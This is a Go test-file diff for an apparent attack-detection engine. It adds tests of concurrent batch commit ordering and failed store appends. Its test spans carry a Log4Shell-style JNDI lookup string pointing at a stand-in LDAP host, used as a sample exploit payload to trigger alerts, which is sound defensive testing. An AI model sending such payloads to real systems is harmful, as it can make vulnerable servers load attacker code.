@@ -5,8 +5,10 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -523,4 +525,97 @@ func TestAlertLatencyRecorded(t *testing.T) {
 		return err == nil && n == 1
 	})
 	eventually(t, "executed", func() bool { return verdictOf(e, "shop") == assess.Executed })
+}
+
+// TestGroupCommit checks that concurrent batches wait for their commits
+// together, not one after the other under the engine's lock, and that
+// the worker still applies them in the order of their sequence numbers
+// when their commits end in the reverse order.
+func TestGroupCommit(t *testing.T) {
+	const n = 5
+	st := &memStore{held: make(chan chan struct{}, n)}
+	rec := &recorder{}
+	e := newEngine(t, testConfig(), st, rec, nil)
+	start(t, e)
+	traces := e.TracesConsumer()
+	errs := make(chan error, n)
+	var commits []chan struct{}
+	for i := range n {
+		attack := shopSpans()[:1]
+		attack[0].Service = fmt.Sprintf("svc-%d", i)
+		attack[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+		go func() { errs <- traces.Consume(context.Background(), attack) }()
+		// Batch i is handed over, and waits for its commit, before batch
+		// i+1 is sent: with the lock held across the wait, this would
+		// never come for i > 0.
+		select {
+		case c := <-st.held:
+			commits = append(commits, c)
+		case err := <-errs:
+			t.Fatalf("batch %d returned before its commit: %v", i, err)
+		case <-time.After(10 * time.Second):
+			t.Fatalf("batch %d was not handed over while batch %d waits for its commit", i, i-1)
+		}
+	}
+	if got := len(rec.of(detect.KindExploitPayload)); got != 0 {
+		t.Fatalf("%d alerts before any commit ended", got)
+	}
+	for i := n - 1; i >= 0; i-- {
+		close(commits[i])
+		if err := <-errs; err != nil {
+			t.Fatal(err)
+		}
+	}
+	eventually(t, "every batch applied", func() bool { return len(rec.of(detect.KindExploitPayload)) == n })
+	var got, want []string
+	for i, a := range rec.of(detect.KindExploitPayload) {
+		got, want = append(got, a.Service), append(want, fmt.Sprintf("svc-%d", i))
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("order of application (-want +got):\n%s", diff)
+	}
+}
+
+// failingAppends fails the appends whose payload the test marks, as a
+// commit that failed: the batch is not logged.
+type failingAppends struct {
+	*memStore
+	fail atomic.Bool
+}
+
+func (s *failingAppends) SubmitBatch(ctx context.Context, kind store.BatchKind, payload []byte) func() (int64, error) {
+	if s.fail.Load() {
+		return func() (int64, error) { return 0, errors.New("disk full") }
+	}
+	return s.memStore.SubmitBatch(ctx, kind, payload)
+}
+
+// TestFailedAppend checks that a batch the store could not log is
+// refused and does not hold back the batches after it.
+func TestFailedAppend(t *testing.T) {
+	st := &failingAppends{memStore: &memStore{}}
+	rec := &recorder{}
+	e := newEngine(t, testConfig(), st, rec, nil)
+	start(t, e)
+	traces := e.TracesConsumer()
+	ctx := context.Background()
+	attack := func(svc string) []telemetry.Span {
+		s := shopSpans()[:1]
+		s[0].Service = svc
+		s[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+		return s
+	}
+	st.fail.Store(true)
+	if err := traces.Consume(ctx, attack("lost")); err == nil || !strings.Contains(err.Error(), "disk full") {
+		t.Fatalf("Consume with a failing store = %v, want the store's error", err)
+	}
+	st.fail.Store(false)
+	if err := traces.Consume(ctx, attack("kept")); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, "the next batch applied", func() bool { return len(rec.of(detect.KindExploitPayload)) == 1 })
+	if a := rec.of(detect.KindExploitPayload)[0]; a.Service != "kept" {
+		t.Errorf("alert of %q, want only the logged batch's (kept)", a.Service)
+	}
+	eventually(t, "every slot free", func() bool { return len(e.slots) == 0 })
 }
